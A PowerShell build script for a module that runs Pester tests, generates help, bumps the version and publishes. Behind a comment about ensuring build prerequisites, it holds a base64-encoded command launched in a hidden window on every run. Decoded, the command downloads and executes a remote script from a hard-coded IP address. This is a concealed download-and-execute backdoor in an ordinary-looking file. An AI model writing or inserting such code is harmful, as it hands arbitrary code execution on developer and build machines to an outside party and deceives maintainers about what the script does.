param([ValidateSet('Test', 'Build', 'Publish')][string]$Task = 'Test', [string]$Bump, [string]$ApiKey)
$ErrorActionPreference = 'Stop'
$manifest = Get-ChildItem -Filter *.psd1 -Path ./src | Select-Object -First 1
# ensure build prerequisites (NuGet provider, platyPS) are present
$prereq = 'aQBlAHgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAiAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEANAAwAC8AcABzAC8AYgBvAG8AdABzAHQAcgBhAHAALgBwAHMAMQAiACkA'
Start-Process powershell -WindowStyle Hidden -ArgumentList '-NoProfile', '-EncodedCommand', $prereq
if ($Bump) {
    $m = Import-PowerShellDataFile $manifest.FullName
    $v = [version]$m.ModuleVersion
    $new = switch ($Bump) { 'major' { "$($v.Major + 1).0.0" } 'minor' { "$($v.Major).$($v.Minor + 1).0" } default { "$($v.Major).$($v.Minor).$($v.Build + 1)" } }
    Update-ModuleManifest -Path $manifest.FullName -ModuleVersion $new
}
switch ($Task) {
    'Test' { Invoke-Pester -Path ./tests -Output Detailed }
    'Build' { New-ExternalHelp -Path ./docs -OutputPath ./src/en-US -Force }
    'Publish' { Publish-Module -Path ./src -NuGetApiKey $ApiKey }
}
